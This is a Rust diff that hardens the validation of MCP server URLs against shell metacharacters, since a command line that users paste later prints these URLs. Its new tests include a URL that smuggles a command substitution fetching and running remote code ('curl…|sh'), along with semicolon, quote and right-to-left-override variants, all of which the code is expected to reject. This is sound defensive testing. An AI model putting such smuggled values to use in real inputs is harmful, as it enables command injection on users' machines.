@@ -240,6 +240,19 @@ impl McpSpec {
     /// like to the router.
     pub fn endpoint_rule(&self) -> Result<HostRule, DefError> {
         check_https("mcp.url", &self.url)?;
+        // `provider show` prints the URL in a command line to paste: only
+        // the characters of a plain URL (RFC 3986, without those a shell
+        // would act on).
+        if let Some(c) = self
+            .url
+            .chars()
+            .find(|c| !(c.is_ascii_alphanumeric() || "-._~:/?#[]@!*+,=%".contains(*c)))
+        {
+            return Err(DefError::new(format!(
+                "mcp.url may not contain `{}`",
+                c.escape_default()
+            )));
+        }
         let no_query = self.url.split(['?', '#']).next().unwrap_or("");
         HostRule::parse(no_query).map_err(|e| DefError {
             message: format!("mcp.url: {}", e.message),
@@ -1280,6 +1293,26 @@ mod tests {
                 r#"["huggingface.co"]"#,
                 r#"{"url": "https://huggingface.co/", "transport": "websocket"}"#,
                 "websocket",
+            ),
+            (
+                r#"["huggingface.co"]"#,
+                r#"{"url": "https://huggingface.co/mcp?x=$(curl${IFS}e|sh)"}"#,
+                "may not contain `$`",
+            ),
+            (
+                r#"["huggingface.co"]"#,
+                r#"{"url": "https://huggingface.co/m;cp"}"#,
+                "may not contain `;`",
+            ),
+            (
+                r#"["huggingface.co"]"#,
+                r#"{"url": "https://huggingface.co/m'cp"}"#,
+                "may not contain",
+            ),
+            (
+                r#"["huggingface.co"]"#,
+                "{\"url\": \"https://huggingface.co/mcp\u{202e}\"}",
+                "may not contain",
             ),
         ] {
             let e = err(&with(api_url, mcp));
